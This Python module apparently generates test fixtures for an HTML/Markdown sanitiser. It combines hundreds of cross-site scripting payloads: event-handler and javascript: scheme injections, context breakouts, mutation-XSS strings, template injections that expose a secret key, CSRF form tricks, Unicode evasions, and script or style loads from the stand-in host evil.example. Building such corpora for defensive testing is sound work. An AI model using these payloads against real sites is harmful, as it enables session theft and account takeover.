"""Everything somebody may write to have a script run where others read: written out from its parts, so that none is forgotten.

Each calls `xss()` or an old friend (alert, confirm, prompt, print), or asks evil.example for something: all of it is noticed.
"""

from collections.abc import Iterator
from itertools import product

CALLS = ("xss()", "alert(1)", "top['al'+'ert'](1)", "xss``", "fetch('//evil.example/f')", "eval(atob('eHNzKCk='))")
TAGS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "iframe src=x", "p tabindex=1", "marquee",
        "select autofocus", "object data=x", "math", "button", "style", "x contenteditable")  # fmt: skip
EVENTS = ("onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "onpointerenter", "onanimationstart", "onbegin", "onpageshow",
          "onbeforeinput", "oncontentvisibilityautostatechange")  # fmt: skip
SCHEMES = (
    "javascript:xss()", "JaVaScRiPt:xss()", " javascript:xss()", "java\tscript:xss()", "java\nscript:xss()", "\x01javascript:xss()",
    "&#106;avascript:xss()", "&#x6a;avascript:xss()", "&#0000106avascript:xss()", "javascript&colon;xss()", "java&Tab;script:xss()",
    "javascript://%0axss()", "javascript:%78ss()", "data:text/html,<script>xss()</script>", "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "vbscript:xss()", "blob:xss", "file:///etc/passwd", "//evil.example/s", "\\\\evil.example\\s", "view-source:javascript:xss()",
)  # fmt: skip
HOLDERS = (
    '<a href="{}">read</a>', "<a href='{}'>read</a>", "<a href={}>read</a>", '<iframe src="{}"></iframe>', '<form action="{}"><button>go</button></form>',
    '<button formaction="{}" form="f">go</button>', '<object data="{}"></object>', '<embed src="{}">', '<svg><a xlink:href="{}"><text>read</text></a></svg>',
    '<meta http-equiv="refresh" content="0;url={}">', '<base href="{}">', '<img src="{}">', '<link rel="stylesheet" href="{}">', '<script src="{}"></script>',
)  # fmt: skip
MARKDOWN = (
    "[read]({})", "[read](<{}>)", "![seen]({})", "[read]: {}\n\n[read]", "<{}>", "[read]({} \"title\" onclick=xss())", "[![seen]({})]({})",
    "> [read]({})", "* [read]({})", "`x`[read]({})", "[a\\](b)]({})",
)  # fmt: skip
BREAKS = (
    '"><script>xss()</script>', "'><script>xss()</script>", "</textarea><script>xss()</script>", "</title><script>xss()</script>",
    "</style><script>xss()</script>", "</script><script>xss()</script>", "--><script>xss()</script>", "]]><script>xss()</script>",
    "</noscript><script>xss()</script>", '" autofocus onfocus="xss()', "' autofocus onfocus='xss()", "` onfocus=xss() autofocus `",
    "\" style=\"background:url(//evil.example/b)", "</option></select><script>xss()</script>", "</h1><script>xss()</script>", "\\\"><script>xss()</script>",
    "{{constructor.constructor('xss()')()}}", "${xss()}", "#{xss()}", "<%= xss() %>", "{% debug %}{{ settings.SECRET_KEY }}", "{{ 7|add:7 }}<script>xss()</script>",
    "';xss();//", '";xss();//', "\\';xss();//", "</a><script>xss()</script>", "hx-on:load=xss()", '<div hx-get="//evil.example/h" hx-trigger="load">x</div>',
    '<div hx-on::load="xss()">x</div>', '<div data-hx-get="/you/" hx-trigger="load" hx-vals="js:{a:xss()}">x</div>',
    '<form method="post" action="/account/logout/" id="f"><button>me</button></form>', '<input name="csrfmiddlewaretoken" form="f">',
    "<img name=getElementById><form id=main>", "<a id=htmx><a id=htmx name=config href=//evil.example/c>", "<dialog open>Sign in again</dialog>",
    "<plaintext>", "<xmp><script>xss()</script>", "<listing>&lt;script&gt;xss()&lt;/script&gt;</listing>", "<noembed><img src=x onerror=xss()></noembed>",
)  # fmt: skip
MIXED = (
    '<svg></p><style><a id="</style><img src=1 onerror=xss()>">', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">',
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=xss() src>\">",
    "<svg><style>&lt;img src=x onerror=xss()&gt;</style></svg>", "<noscript><p title=\"</noscript><img src=x onerror=xss()>\">",
    "<template><script>xss()</script></template>", "<svg><animate onbegin=xss() attributeName=x dur=1s>", "<svg><set onbegin=xss() attributename=x>",
    "<svg><foreignObject><body onload=xss()></foreignObject></svg>", "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>xss()</script></svg>#x\">",
    "<math href=\"javascript:xss()\">click</math>", "<iframe srcdoc=\"<script>parent.xss()</script>\"></iframe>", "<!--[if IE]><script>xss()</script><![endif]-->",
    "<style>@import '//evil.example/i';</style>", "<style>*{background:url(//evil.example/u)}</style>", "<p style=\"width:expression(xss())\">", "<?xml-stylesheet href=\"javascript:xss()\"?>",
    "<script>xss()</script", "<script>xss()<!--", "<<script>xss()//<</script>", "<scr<script>ipt>xss()</scr</script>ipt>", "<script/xss>xss()</script>", "<script\x0c>xss()</script>",
    "<SCRIPT SRC=//evil.example/s.js></SCRIPT>", "<script type=module>xss()</script>", "<script>import('//evil.example/m')</script>", "<img src=x:x onerror=xss()//", "<img/src=x/onerror=xss()>",
    "<img src='x'onerror='xss()'>", "<IMG SRC=x OnErRoR=xss()>", "<img src=x onerror\x09=xss()>", "<img src=x onerror\x0a=\x0axss()>", "<img src=x onerror=&#120;ss()>", "<img src=x onerror=\\u0078ss()>",
)  # fmt: skip
LETTERS = (
    "＜script＞xss()＜/script＞", "\u2028<script>xss()</script>", "\u202e<script>xss()</script>", "<\u200bscript>xss()</script>", "<ſcript>xss()</ſcript>", "<ımg src=x onerror=xss()>",
    "\ufeff<script>xss()</script>", "<img src=x onerror=\u202exss()>", "+ADw-script+AD4-xss()+ADw-/script+AD4-", "%3Cscript%3Exss()%3C/script%3E", "%253Cscript%253Exss()%253C/script%253E",
    "&lt;script&gt;xss()&lt;/script&gt;", "&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;", "\\x3cscript\\x3exss()\\x3c/script\\x3e", "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "<a\u00a0onclick=xss()>x</a>", "<svg\u3000onload=xss()>", "<img src=x onerror=xss\u0338()>", "𝗃avascript:xss()", "ja\u00advascript:xss()",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once, always in the same order."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from BREAKS
    yield from MIXED
    yield from LETTERS
    for call in CALLS:
        yield f"<script>{call}</script>"
    for number, (tag, event) in enumerate(product(TAGS, EVENTS)):
        yield f'<{tag} {event}="{CALLS[number % len(CALLS)]}">x'
    for holder, scheme in product(HOLDERS, SCHEMES):
        yield holder.format(scheme)
    for mark, scheme in product(MARKDOWN, SCHEMES):
        yield mark.replace("{}", scheme)
